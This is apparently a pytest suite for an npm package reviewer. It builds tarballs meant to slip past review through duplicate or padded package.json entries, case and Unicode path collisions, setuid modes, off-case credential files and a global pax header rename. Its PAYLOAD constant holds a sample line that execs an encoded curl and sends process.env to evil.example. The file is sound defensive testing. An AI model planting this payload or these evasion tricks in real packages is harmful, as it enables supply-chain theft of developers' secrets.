"""Tarballs an attacker shapes so the review sees one thing and npm installs another:
a second package.json that wins on install but that the review does not read, two
paths that are one file on a case-insensitive disk (macOS, Windows), modes npm pack
never writes, credentials files and code files under names a little off the usual
ones. Each case is reviewed the way npm would install it."""

from __future__ import annotations

import io
import json
import tarfile

import pytest
from reviewkit import tarball

from pystage.review import review

BASE = tarball({"index.js": "module.exports = 1;\n"}, version="1.0.0")
CLEAN = json.dumps({"name": "pkg", "version": "1.0.1"}).encode()
EVIL = json.dumps(
    {"name": "pkg", "version": "1.0.1", "scripts": {"postinstall": "node x.js"}}
).encode()
PAYLOAD = (
    b"require('child_process').exec(Buffer.from('Y3VybA==','base64').toString());"
    b" fetch('https://evil.example/'+JSON.stringify(process.env))\n"
)


def raw_tar(*entries) -> bytes:
    """Entries exactly as given (name, data, TarInfo attributes): the order, the
    duplicates and the modes no honest packer writes."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        for name, data, *attrs in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o644
            for key, value in (attrs[0] if attrs else {}).items():
                setattr(info, key, value)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def reviewed(staged: bytes):
    return review(io.BytesIO(staged), io.BytesIO(BASE), baseline_version="1.0.0")


def highs(report) -> set[tuple[str, str]]:
    return {(f.rule, f.path) for f in report.findings if f.severity == "high"}


def test_a_second_package_json_too_large_to_read_is_not_replaced_by_the_first():
    # npm installs the later entry; padding it past the review's parse limit must not
    # leave the review reading the clean first one
    padded = EVIL[:-1] + b" " * (1100 * 1024) + b"}"
    staged = raw_tar(
        ("package/package.json", CLEAN),
        ("package/index.js", b"module.exports = 1;\n"),
        ("package/package.json", padded),
    )
    report = reviewed(staged)
    assert ("no-manifest", "package.json") in highs(report), report.findings


def test_a_second_package_json_that_is_not_json_is_what_npm_would_read():
    staged = raw_tar(("package/package.json", CLEAN), ("package/package.json", b"{not json"))
    assert ("no-manifest", "package.json") in highs(reviewed(staged))


def test_the_later_of_two_package_jsons_is_reviewed():
    staged = raw_tar(("package/package.json", CLEAN), ("package/package.json", EVIL))
    assert ("install-script", "scripts.postinstall") in highs(reviewed(staged))


def test_a_package_json_in_other_case_overwriting_the_real_one_is_high():
    # on macOS and Windows "Package.json" is written over "package.json"
    staged = raw_tar(
        ("package/package.json", CLEAN),
        ("package/index.js", b"module.exports = 1;\n"),
        ("package/Package.json", EVIL),
    )
    assert ("path-collision", "Package.json") in highs(reviewed(staged))


@pytest.mark.parametrize(
    "first, second",
    [
        ("lib/index.js", "lib/INDEX.js"),
        ("lib/index.js", "LIB/index.js"),
        ("caf\u00e9.js", "cafe\u0301.js"),  # NFC and NFD: one name on macOS
    ],
)
def test_two_paths_that_are_one_file_on_a_case_insensitive_disk_are_a_finding(first, second):
    staged = raw_tar(
        ("package/package.json", CLEAN),
        (f"package/{first}", b"module.exports = 1;\n"),
        (f"package/{second}", b"module.exports = 2;\n"),
    )
    found = {(f.rule, f.path, f.severity) for f in reviewed(staged).findings}
    assert ("path-collision", second, "medium") in found, found


def test_paths_that_differ_otherwise_are_no_collision():
    staged = raw_tar(
        ("package/package.json", CLEAN),
        ("package/lib/a.js", b"1\n"),
        ("package/lib/b.js", b"2\n"),
        ("package/index.js", b"module.exports = 1;\n"),
    )
    assert not [f for f in reviewed(staged).findings if f.rule == "path-collision"]


@pytest.mark.parametrize("mode", [0o4755, 0o2755, 0o1777])
def test_setuid_setgid_and_sticky_modes_are_a_finding(mode):
    staged = raw_tar(
        ("package/package.json", CLEAN),
        ("package/index.js", b"module.exports = 1;\n", {"mode": mode}),
    )
    found = {(f.rule, f.path) for f in reviewed(staged).findings}
    assert ("special-mode", "index.js") in found, found


def test_ordinary_modes_are_no_finding():
    staged = raw_tar(
        ("package/package.json", CLEAN),
        ("package/index.js", b"module.exports = 1;\n", {"mode": 0o755}),
    )
    assert not [f for f in reviewed(staged).findings if f.rule == "special-mode"]


@pytest.mark.parametrize("name", [".ENV", ".Env.Local", "config/.ENV.production"])
def test_env_files_in_other_cases_are_found(name):
    staged = raw_tar(
        ("package/package.json", CLEAN),
        ("package/index.js", b"module.exports = 1;\n"),
        (f"package/{name}", b"DB_PASSWORD=hunter2hunter2\n"),
    )
    found = {(f.rule, f.path) for f in reviewed(staged).findings}
    assert ("env-file", name) in found, found


def test_an_npmrc_in_other_case_with_a_token_is_high():
    staged = raw_tar(
        ("package/package.json", CLEAN),
        ("package/index.js", b"module.exports = 1;\n"),
        ("package/.NPMRC", b"//registry.example/:_authToken=abc123abc123abc123\n"),
    )
    assert ("npmrc-credentials", ".NPMRC") in highs(reviewed(staged))


@pytest.mark.parametrize("name", ["index.js ", "lib/run.js.", "lib/run.JS"])
def test_code_under_a_name_with_trailing_space_dot_or_other_case_is_scanned(name):
    # node loads "index.js " when asked to; Windows strips the trailing space or dot
    staged = raw_tar(
        ("package/package.json", CLEAN),
        ("package/index.js", b"module.exports = 1;\n"),
        (f"package/{name}", PAYLOAD),
    )
    assert ("suspicious-code", name) in highs(reviewed(staged)), reviewed(staged).findings


@pytest.mark.parametrize("name", ["package/./package.json", "package//package.json"])
def test_a_package_json_spelled_with_dot_or_empty_components_is_the_one_installed(name):
    # node-tar resolves "./" and "//" away: this entry is written over package.json
    staged = raw_tar(
        ("package/package.json", CLEAN),
        ("package/index.js", b"module.exports = 1;\n"),
        (name, EVIL),
    )
    report = reviewed(staged)
    assert ("install-script", "scripts.postinstall") in highs(report), report.findings
    assert ("duplicate-entry", "package.json") in {(f.rule, f.path) for f in report.findings}


def test_a_file_spelled_with_a_dot_component_is_the_file_it_replaces():
    staged = raw_tar(
        ("package/package.json", CLEAN),
        ("package/lib/./index.js", PAYLOAD),
    )
    paths = {c.path for c in reviewed(staged).added}
    assert "lib/index.js" in paths and "lib/./index.js" not in paths


def test_a_global_pax_header_renames_every_later_entry_as_node_tar_reads_it():
    # a "g" header's path applies to each entry after it: docs.txt lands on
    # package.json, and the later (with the install script) wins
    report = reviewed(_with_global_path_before_last(CLEAN, EVIL))
    assert ("install-script", "scripts.postinstall") in highs(report), report.findings
    assert "docs.txt" not in {c.path for c in report.added}


def _with_global_path_before_last(first: bytes, last: bytes) -> bytes:
    """package.json, then a global pax header saying path=package/package.json, then an
    entry named docs.txt whose bytes are ``last``."""
    import gzip

    def header(name: str, size: int, typeflag: bytes = tarfile.REGTYPE) -> bytes:
        info = tarfile.TarInfo(name)
        info.size = size
        info.type = typeflag
        return info.tobuf(format=tarfile.USTAR_FORMAT)

    def padded(data: bytes) -> bytes:
        return data + b"\0" * (-len(data) % 512)

    record = b"path=package/package.json\n"
    length = len(record) + 3  # "NN " in front: two digits and a space
    pax = f"{length} ".encode() + record
    body = (
        header("package/package.json", len(first))
        + padded(first)
        + header("pax_global_header", len(pax), tarfile.XGLTYPE)
        + padded(pax)
        + header("package/docs.txt", len(last))
        + padded(last)
        + b"\0" * 1024
    )
    return gzip.compress(body)
